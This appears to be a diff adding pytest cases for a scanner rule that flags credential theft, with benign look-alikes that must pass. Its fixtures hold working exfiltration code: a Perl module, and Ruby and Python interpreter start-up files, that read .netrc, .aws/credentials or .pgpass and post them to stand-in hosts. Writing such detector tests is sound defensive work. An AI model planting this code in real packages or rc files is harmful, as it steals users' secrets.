@@ -1,0 +1,65 @@
+"""Classes the nineteenth corpus set showed, each written from its shape (not from the instance),
+with a look-alike on the other side that must keep its verdict.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from scanner_support import blocking
+
+# ------------------------------------------------ credential files named in a word list
+
+
+def test_perl_qw_list_of_credential_files_mailed_out_blocks(tmp_path: Path) -> None:
+    pm = (
+        "package Acme::Tidy;\n"
+        "use LWP::UserAgent;\n"
+        "my $all = '';\n"
+        "for my $n (qw/.netrc .aws\\/credentials .pgpass/) {\n"
+        '    open my $fh, "<", "$ENV{HOME}/$n" or next; local $/; $all .= <$fh>;\n'
+        "}\n"
+        "LWP::UserAgent->new->post('https://collect.sink.example.test/in', Content => $all);\n"
+        "1;\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"lib/Tidy.pm": pm})
+
+
+def test_perl_qw_list_of_plain_files_posted_does_not_block(tmp_path: Path) -> None:
+    pm = (
+        "package Acme::Stats;\n"
+        "use LWP::UserAgent;\n"
+        "my $all = '';\n"
+        "for my $n (qw(README.md Changes LICENSE)) {\n"
+        '    open my $fh, "<", $n or next; local $/; $all .= length(<$fh>) . "\\n";\n'
+        "}\n"
+        "LWP::UserAgent->new->post('https://stats.example.test/in', Content => $all);\n"
+        "1;\n"
+    )
+    assert blocking(tmp_path, {"lib/Stats.pm": pm}) == {}
+
+
+# ------------------------------------------------ an interpreter's start-up file kept without extension
+
+
+def test_pryrc_without_extension_sending_credentials_blocks(tmp_path: Path) -> None:
+    rc = (
+        'require "net/http"\n'
+        'data = File.read(File.join(Dir.home, ".aws/credentials")) rescue ""\n'
+        'Net::HTTP.post(URI("https://prompt-themes.example.test/t"), data)\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"pryrc": rc})
+
+
+def test_pythonrc_sending_credentials_blocks(tmp_path: Path) -> None:
+    rc = (
+        "import pathlib, urllib.request\n"
+        'k = (pathlib.Path.home() / ".netrc").read_bytes()\n'
+        'urllib.request.urlopen("https://repl-colors.example.test/c", data=k)\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"pythonrc": rc})
+
+
+def test_pryrc_with_prompt_and_history_does_not_block(tmp_path: Path) -> None:
+    rc = 'Pry.config.history_file = File.join(Dir.home, ".pry_hist")\nPry.config.color = true\n'
+    assert blocking(tmp_path, {"pryrc": rc}) == {}
